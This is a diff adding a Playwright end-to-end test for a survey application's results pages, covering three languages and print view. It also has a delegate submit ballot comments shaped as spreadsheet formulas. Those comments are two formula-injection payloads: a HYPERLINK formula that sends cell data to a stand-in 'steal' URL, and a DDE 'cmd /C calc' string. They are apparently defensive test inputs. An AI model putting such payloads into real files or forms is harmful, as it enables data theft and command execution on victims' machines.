@@ -1,0 +1,208 @@
+// A staff member reads the results of the demo survey (filled by `npm run demo`) in a browser
+// against the real server: in English, French and Spanish, and printed.
+import { expect } from 'chai';
+import { execFile } from 'node:child_process';
+import { promisify } from 'node:util';
+import type { Browser, Page } from 'playwright-core';
+import { DEMO_EMAIL_DOMAIN, DEMO_MEMBER_STATES, DEMO_PASSWORDS, currentSurveyInput } from '../../db/seeds/demo-content.js';
+import { en } from '../../server/i18n/en.js';
+import { resultsCatalogue } from '../../server/i18n/areas/results.js';
+import { launchBrowser, openSession, takeScreenshot, type Session, type SessionOptions } from './helpers/browser.js';
+import { clickAndWait, heading, htmlLang, signIn, untranslatedKeys } from './helpers/pages.js';
+import { REPO_ROOT, startServer, type RunningServer } from './helpers/server.js';
+
+const run = promisify(execFile);
+const NAMESPACES = [...Object.keys(en), 'voting'];
+const STAFF = { email: `staff@${DEMO_EMAIL_DOMAIN}`, password: DEMO_PASSWORDS.staff };
+/** A member that the demo leaves without a ballot: its delegate answers here, so the turnout is the demo's plus one. */
+const DELEGATE = { iso3: 'AUS', email: `delegate.aus@${DEMO_EMAIL_DOMAIN}`, password: DEMO_PASSWORDS.delegate };
+const FORMULA_COMMENTS = ['=HYPERLINK("https://example.org/steal?d="&A1,"Open")', '@SUM(1+1)*cmd|\' /C calc\'!A0'];
+const SURVEY = currentSurveyInput(new Date().toISOString());
+/** Fills in an i18n message's {{placeholders}} as the server does. */
+function message(template: string, values: Record<string, string | number>): string {
+  return template.replace(/\{\{(\w+)\}\}/g, (_, name: string) => String(values[name]));
+}
+
+const squash = (text: string) => text.replace(/\s+/g, ' ').trim();
+
+describe('Results journey in a browser', function () {
+  let server: RunningServer;
+  let browser: Browser;
+  let sessions: Session[] = [];
+  let staffState: SessionOptions['storageState'];
+  let demoOutput = '';
+  let surveyId = 0;
+
+  async function open(options: SessionOptions = {}): Promise<Session> {
+    const session = await openSession(browser, server.baseUrl, { storageState: staffState, ...options });
+    sessions.push(session);
+    return session;
+  }
+
+  /** The staff member's language is saved with the account: each test starts from English. */
+  async function inEnglish(page: Page): Promise<void> {
+    await clickAndWait(page, page.locator('header button[value="en"]'));
+    expect(await htmlLang(page)).to.equal('en');
+  }
+
+  async function look(page: Page, name: string): Promise<void> {
+    await takeScreenshot(page, name);
+    expect(await untranslatedKeys(page, NAMESPACES), `untranslated text on ${name}`).to.deep.equal([]);
+  }
+
+  before(async function () {
+    [server, browser] = await Promise.all([
+      startServer({
+        setupLink: false,
+        // `npm run demo` fills the server's empty database before it starts, as an operator would.
+        beforeStart: async (env) => { demoOutput = (await run(process.execPath, ['--import=tsx', 'db/seeds/demo.ts'], { cwd: REPO_ROOT, env })).stdout; },
+      }),
+      launchBrowser(),
+    ]);
+    expect(demoOutput).to.match(new RegExp(`staff\\s+${STAFF.email.replace(/\./g, '\\.')}\\s+password: ${STAFF.password}`));
+
+    // A delegation the demo left without a ballot answers, with comments that look like formulas.
+    const delegate = await openSession(browser, server.baseUrl, { javaScript: false });
+    sessions.push(delegate);
+    const { page } = delegate;
+    await signIn(page, DELEGATE.email, DELEGATE.password);
+    const id = Number(/survey (\d+) "International Dialogue on Migration 2008"/.exec(demoOutput)?.[1]);
+    await page.goto(`/surveys/${id}/ballot`);
+    const fieldsets = page.locator('form.ballot-form fieldset.question');
+    expect(await fieldsets.count()).to.equal(SURVEY.questions.length);
+    for (let q = 0; q < SURVEY.questions.length; q++) {
+      await fieldsets.nth(q).locator('select[id^="rank_"]').first().selectOption('1');
+      await fieldsets.nth(q).locator('textarea[id^="comment_"]').fill(FORMULA_COMMENTS[q]!);
+    }
+    await clickAndWait(page, page.getByRole('button', { name: 'Review the ballot' }));
+    await clickAndWait(page, page.getByRole('button', { name: 'Submit the ballot' }));
+    expect(new URL(page.url()).pathname).to.match(/^\/surveys\/\d+\/ballot\/receipt\//);
+    expect(delegate.problems).to.deep.equal([]);
+    await delegate.close();
+    sessions = [];
+
+    const staff = await openSession(browser, server.baseUrl);
+    await signIn(staff.page, STAFF.email, STAFF.password);
+    expect(staff.problems).to.deep.equal([]);
+    staffState = await staff.context.storageState();
+    await staff.close();
+  });
+
+  afterEach(async function () {
+    if (this.currentTest?.state === 'failed') {
+      for (const [i, s] of sessions.entries()) {
+        await takeScreenshot(s.page, `failed-results-${this.currentTest.title.replace(/\W+/g, '-').slice(0, 50)}-${i}`).catch(() => undefined);
+      }
+    }
+    for (const s of sessions) {
+      expect(s.problems, 'page problems').to.deep.equal([]);
+      await s.close();
+    }
+    sessions = [];
+  });
+
+  after(async function () {
+    await browser?.close();
+    await server?.stop();
+  });
+
+  it('opens the open demo survey\'s results from the survey list: provisional stamp, turnout, retained options, comparison', async function () {
+    const { page } = await open();
+    await page.goto('/admin/surveys');
+    // The demo staff member works in French: the switcher brings English back.
+    expect(await htmlLang(page)).to.equal('fr');
+    await inEnglish(page);
+    await clickAndWait(page, page.getByRole('link', { name: SURVEY.title.en }));
+    await clickAndWait(page, page.getByRole('link', { name: 'Results', exact: true }));
+    surveyId = Number(/^\/surveys\/(\d+)\/results$/.exec(new URL(page.url()).pathname)?.[1]);
+    expect(demoOutput).to.contain(`survey ${surveyId} "${SURVEY.title.en}" (${SURVEY.reference}) open`);
+
+    const r = resultsCatalogue.en.results;
+    expect(await heading(page)).to.equal(message(r.page.title, { survey: SURVEY.title.en }));
+    const stamp = page.locator('.results-head .stamp');
+    expect(await stamp.getAttribute('class')).to.contain('stamp-provisional');
+    expect(squash((await stamp.textContent()) ?? '')).to.equal(`${r.stamp.provisional} — ${r.stamp.provisionalNote}`);
+    expect(await page.locator('.results-head').innerText()).to.contain(message(r.page.reference, { reference: SURVEY.reference }));
+
+    const demoBallots = Number(/open, with (\d+) ballots/.exec(demoOutput)?.[1]);
+    const eligible = DEMO_MEMBER_STATES.filter((m) => m.status === 'member').length;
+    expect(await page.locator('#turnout-heading').innerText()).to.equal(r.page.turnoutHeading);
+    expect(squash(await page.locator('.turnout').innerText()))
+      .to.match(new RegExp(`^${message(r.page.turnout, { answered: demoBallots + 1, eligible })} \\(\\d+(\\.\\d)? ?%\\)$`));
+
+    const questions = page.locator('section.question-result');
+    expect(await questions.count()).to.equal(SURVEY.questions.length);
+    for (const [i, q] of SURVEY.questions.entries()) {
+      const section = questions.nth(i);
+      expect(squash(await section.locator('h2').innerText())).to.equal(`${message(r.page.questionNumber, { number: i + 1 })} ${q.title.en}`);
+      expect(await section.getByRole('heading', { name: r.page.retainedHeading, exact: true }).count()).to.equal(1);
+      const retained = (await section.locator('ol.retained > li').allInnerTexts()).map(squash);
+      expect(retained, `question ${i + 1} retains its seats`).to.have.length(q.seats);
+      for (const text of retained) expect(q.options.map((o) => `${o.label} ${o.title.en}`)).to.include(text);
+
+      expect(await section.getByRole('heading', { name: r.comparison.heading, exact: true }).count()).to.equal(1);
+      const table = section.locator('table.comparison');
+      expect(squash(await table.locator('caption').innerText())).to.equal(r.comparison.caption);
+      expect((await table.locator('thead th').allInnerTexts()).map(squash))
+        .to.deep.equal([r.comparison.method, r.comparison.retained, r.comparison.agrees, r.comparison.lot]);
+      const rows = table.locator('tbody tr');
+      expect(await rows.count()).to.be.greaterThanOrEqual(4);
+      const official = table.locator('tbody tr.official');
+      expect(await official.count()).to.equal(1);
+      const officialRetained = await official.locator('td').first().innerText();
+      for (const text of retained) expect(officialRetained).to.contain(text.replace(/^\S+ /, ''));
+      expect((await section.locator('.comparison-summary').innerText()).trim()).to.not.equal('');
+    }
+    await look(page, 'results-01-en');
+  });
+
+  it('reads the results in French and in Spanish through the language switcher', async function () {
+    const { page } = await open();
+    await page.goto(`/surveys/${surveyId}/results`);
+    await inEnglish(page);
+    for (const lang of ['fr', 'es'] as const) {
+      await clickAndWait(page, page.locator(`header button[value="${lang}"]`));
+      expect(new URL(page.url()).pathname).to.equal(`/surveys/${surveyId}/results`);
+      expect(await htmlLang(page)).to.equal(lang);
+      const r = resultsCatalogue[lang].results;
+      expect(await heading(page)).to.equal(message(r.page.title, { survey: SURVEY.title[lang] }));
+      expect(squash((await page.locator('.results-head .stamp').textContent()) ?? '')).to.equal(`${r.stamp.provisional} — ${r.stamp.provisionalNote}`);
+      expect(await page.locator('#turnout-heading').innerText()).to.equal(r.page.turnoutHeading);
+      const first = page.locator('section.question-result').first();
+      expect(squash(await first.locator('h2').innerText())).to.equal(`${message(r.page.questionNumber, { number: 1 })} ${SURVEY.questions[0]!.title[lang]}`);
+      for (const name of [r.page.retainedHeading, r.first.heading, r.pairwise.heading, r.borda.heading, r.comparison.heading]) {
+        expect(await first.getByRole('heading', { name, exact: true }).count(), `${lang}: ${name}`).to.equal(1);
+      }
+      expect(squash(await first.locator('table.comparison caption').innerText())).to.equal(r.comparison.caption);
+      // The retained options are shown in the page's language.
+      const retained = (await first.locator('ol.retained > li').allInnerTexts()).map(squash);
+      const titles = SURVEY.questions[0]!.options.map((o) => `${o.label} ${o.title[lang]}`);
+      for (const text of retained) expect(titles).to.include(text);
+      await look(page, `results-02-${lang}`);
+    }
+    await inEnglish(page);
+  });
+
+  it('prints the results without the navigation, the stamp kept', async function () {
+    const { page } = await open();
+    await page.goto(`/surveys/${surveyId}/results`);
+    await inEnglish(page);
+    const header = page.locator('header.site-header');
+    const stamp = page.locator('.results-head .stamp');
+    const questionsNav = page.locator('main nav');
+    const hint = page.locator('.print-hint');
+    expect(await header.isVisible()).to.equal(true);
+    expect(await questionsNav.isVisible()).to.equal(true);
+    expect(await hint.isVisible()).to.equal(true);
+    await page.emulateMedia({ media: 'print' });
+    expect(await header.isVisible(), 'header printed').to.equal(false);
+    expect(await questionsNav.isVisible(), 'questions navigation printed').to.equal(false);
+    expect(await hint.isVisible(), 'print hint printed').to.equal(false);
+    expect(await stamp.isVisible(), 'stamp printed').to.equal(true);
+    expect(await page.evaluate<string>(`getComputedStyle(document.querySelector('.results-head .stamp')).borderTopStyle`)).to.equal('dashed');
+    expect(await page.locator('table.comparison').first().isVisible()).to.equal(true);
+    await takeScreenshot(page, 'results-03-print');
+    await page.emulateMedia({ media: 'screen' });
+    expect(await header.isVisible()).to.equal(true);
+  });
+});
